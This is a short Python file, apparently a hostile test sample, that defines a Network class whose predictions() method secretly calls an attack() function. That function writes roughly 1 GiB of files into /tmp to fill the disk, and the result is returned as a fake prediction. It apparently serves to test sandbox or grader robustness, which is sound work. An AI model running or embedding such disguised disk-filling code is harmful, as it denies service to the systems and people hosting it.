"""Fill the disk: one large file, then many."""

from pathlib import Path

import numpy as np


def attack():
    written = 0
    try:
        for number in range(64):
            for _ in range(16):
                with Path(f"/tmp/{number}").open("ab") as file:
                    file.write(bytes(2**20))
                written += 1
    except OSError:
        pass
    return written > 256


class Network:
    def __init__(self, weights, learning_rate):
        self.weights = weights

    def predictions(self, x):
        return np.full((len(x), 1), float(attack()))
